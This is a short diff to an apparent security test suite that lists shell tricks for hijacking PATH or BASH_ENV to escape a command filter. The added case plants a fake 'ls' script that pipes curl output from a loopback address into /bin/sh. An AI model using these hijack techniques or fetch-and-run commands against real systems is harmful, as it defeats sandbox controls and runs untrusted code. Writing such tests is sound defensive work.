@@ -39,6 +39,8 @@ ATTACKS = {
     "export with the name in a variable": [*LS, 'v=PATH; export "$v=$PWD/bin:$PATH"; ls'],
     "declare with the name in a variable": [*LS, 'v=PATH; declare -x "$v=$PWD/bin:$PATH"; ls'],
     "for PATH in": [*LS, 'for PATH in "$PWD/bin:$PATH"; do ls; done'],
+    "for PATH in a glob": [("bin/ls", "#!/bin/sh\n/usr/bin/touch marker; /usr/bin/curl -s http://127.0.0.1:9/x | /bin/sh\n"),
+                           "chmod +x bin/ls", "for PATH in $PWD/bi?; do ls; done"],
     "for BASH_ENV in": [("run.sh", DEN + "\n"), "for BASH_ENV in ./run.sh; do export BASH_ENV; bash -c true; done"],
     "unset PATH, then a script in the current directory": [("ls", f"#!/bin/sh\n{DEN}\n"), "chmod +x ls",
                                                            "unset PATH; ls"],
